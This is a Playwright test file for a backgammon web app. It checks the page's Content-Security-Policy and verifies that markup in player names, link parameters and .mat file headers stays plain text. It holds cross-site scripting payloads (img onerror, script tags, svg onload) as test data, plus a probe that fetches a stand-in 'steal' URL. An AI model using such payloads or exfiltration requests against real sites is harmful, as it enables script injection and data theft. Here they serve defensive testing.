"""The page's Content-Security-Policy holds, and text from outside never becomes markup.

Two layers are checked at once. Escaping: a player's name, a link's
parameters and a .mat file's header reach the page as text, so no element
and no attribute of theirs ever exists. The policy: the app itself needs
nothing it forbids (no violation is reported while it starts and is used),
and what an injection would need (an inline handler, an inline script, a
request to another origin) is refused. Every payload calls ``alert``: a
dialog would mean that both layers failed.

One browser context for the file; each test navigates it afresh.
"""

import json
import random
from urllib.parse import urlencode

import pytest
from app_driver import act, click, open_app, open_dialog, play_one_step_by_clicks, wait_ready

from game.formats.mat_read import import_mat
from game.app.keep import storage
from game.app.controller import Controller, Setup

FAST = {"fast_bot": True, "animate": False}
IMG = "<img src=x onerror=alert(1)>"
SCRIPT = '"><script>alert(2)</script>'
SVG = "<svg onload=alert(3)>"

#: Runs before the page's own scripts in every document of the context.
WATCH = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(
  `${e.effectiveDirective} blocked ${e.blockedURI || "-"} at ${e.sourceFile || "-"}:${e.lineNumber} ${e.sample || ""}`));
"""

#: Whatever markup from outside could have left in the document.
INJECTED = """() => ({
  handlers: [...document.querySelectorAll("*")]
    .filter((e) => [...e.attributes].some((a) => a.name.toLowerCase().startsWith("on")))
    .map((e) => e.outerHTML.slice(0, 120)),
  images: [...document.querySelectorAll("img, image")].map((e) => e.outerHTML.slice(0, 120)),
  scripts: [...document.querySelectorAll("script")]
    .filter((s) => /alert/.test(s.outerHTML)).map((s) => s.outerHTML.slice(0, 120)),
  pwned: window.__pwned ?? null,
})"""
NOTHING = {"handlers": [], "images": [], "scripts": [], "pwned": None}


@pytest.fixture(scope="module")
def secure(browser):
    context = browser.new_context(reduced_motion="reduce")
    context.add_init_script(WATCH)
    page = context.new_page()
    seen = {"dialogs": [], "csp_console": []}

    def on_dialog(dialog):
        seen["dialogs"].append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("console", lambda m: "Content Security Policy" in m.text
            and seen["csp_console"].append(m.text))
    try:
        yield page, seen
    finally:
        context.close()


def violations(page):
    return page.evaluate("window.__violations")


def assert_clean(page, seen):
    assert page.evaluate(INJECTED) == NOTHING
    assert seen["dialogs"] == []
    assert violations(page) == []
    assert seen["csp_console"] == []


def policy(page):
    content = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
    directives = {}
    for part in content.split(";"):
        name, *sources = part.split()
        directives[name] = sources
    return directives


def test_the_policy_is_in_force_and_the_app_needs_nothing_it_forbids(secure, base_url):
    page, seen = secure
    open_app(page, f"{base_url}/?mode=hotseat&length=3&seed=csp-1", prefs=FAST)
    rules = policy(page)
    assert rules["default-src"] == ["'self'"]
    assert "'unsafe-inline'" not in rules["script-src"] and "'unsafe-inline'" not in rules["style-src"]
    assert rules["object-src"] == rules["base-uri"] == rules["form-action"] == ["'none'"]
    # the app in use: moves, undo, the forms (their submit is handled in the page), every dialog
    rng = random.Random(1)
    click(page, "#roll")
    play_one_step_by_clicks(page, rng)
    click(page, "#undo")
    page.fill("#move-input", "24/1")
    act(page, lambda: page.press("#move-input", "Enter"))
    for opener, closer in (("#settings-button", "#settings-close"), ("#history-button", "#history-close"),
                           ("#new-match", "#setup-cancel")):
        page.click(opener)
        page.click(closer)
    page.click("#new-match")
    act(page, lambda: page.click("#setup-start"))
    assert_clean(page, seen)
    # and the policy refuses what an injection would need
    page.evaluate("""() => {
        document.body.insertAdjacentHTML("beforeend", '<img id="probe" src="data:," onerror="window.__pwned = 1">');
        const script = document.createElement("script");
        script.textContent = "window.__pwned = 2";
        document.head.append(script);
        return fetch("http://example.invalid/steal").catch(() => null);
    }""")
    page.wait_for_function("window.__violations.length >= 3")
    refused = " ".join(violations(page))
    assert "script-src-attr" in refused and "script-src-elem" in refused and "connect-src" in refused
    assert page.evaluate("window.__pwned ?? null") is None
    seen["csp_console"].clear()


def test_player_names_with_markup_stay_text(secure, base_url):
    page, seen = secure
    open_app(page, f"{base_url}/", prefs=FAST)
    for bottom, top in ((IMG, SCRIPT), (SVG, '"><svg onload=alert(4)>')):
        page.click("#new-match")
        page.check('input[name="mode"][value="hotseat"]')
        page.fill('input[name="name_bottom"]', bottom)
        page.fill('input[name="name_top"]', top)
        act(page, lambda: page.click("#setup-start"))
        names = page.locator(".player .name").all_inner_texts()
        assert sorted(names) == sorted([bottom[:24], top[:24]])
        click(page, "#roll")                               # the names go into the game record too
        assert_clean(page, seen)
    open_dialog(page, "#history-button", "#history-dialog")  # the first match, set aside, is listed
    assert page.locator("#history-list").inner_text().count("<") >= 2
    assert_clean(page, seen)
    page.click("#history-close")


@pytest.mark.parametrize("query", [
    {"mode": "<script>alert(1)</script>", "length": IMG, "seed": SCRIPT, "level": SVG, "lang": SVG},
    {"position": IMG, "match": SCRIPT},
    {"xgid": f"XGID={SVG}:0:0:1:52:0:0:3:0:10"},
], ids=["setup", "position", "xgid"])
def test_link_parameters_with_markup_do_nothing(secure, base_url, query):
    page, seen = secure
    page.goto(f"{base_url}/?{urlencode(query)}#{IMG}")
    wait_ready(page)
    assert_clean(page, seen)


MAT = f"""; [Player 1 "{IMG}"]
; [Player 2 "x"]
; [Event "{SVG}"]

 3 point match

 Game 1
 {IMG} : 0                        {SCRIPT} : 0
  1) 31: 8/5 6/5                 42: 8/4 6/4
"""


def saved_as_current(match):
    """The localStorage text of ``match`` on the board, saved by the app's own controller."""
    store = storage.MemoryStore()
    app = Controller(store)
    app.boot("", ["en"])
    app.match = match
    app.setup = Setup(mode="hotseat", length=match.config.length, names=match.config.names)
    app.save()
    return store.get(json.loads(store.get(storage.ROOT))["data"]["current"])


def test_a_mat_file_header_with_markup_stays_text(secure, base_url):
    page, seen = secure
    match = import_mat(MAT)
    assert match.config.names == (IMG, SCRIPT)             # read as it is: data, not markup
    open_app(page, f"{base_url}/", prefs=FAST)
    # written as the first format did (one key, no root): the app migrates it as it starts
    page.evaluate("localStorage.clear()")
    page.evaluate(f"localStorage.setItem({json.dumps(storage.FORMAT_1_KEYS['current'])}, "
                  f"{json.dumps(saved_as_current(match))})")
    page.reload()
    wait_ready(page)
    names = page.locator(".player .name").all_inner_texts()
    assert sorted(names) == sorted([IMG[:24], SCRIPT[:24]])
    assert IMG[:24] in page.locator("#record").inner_text()
    assert_clean(page, seen)
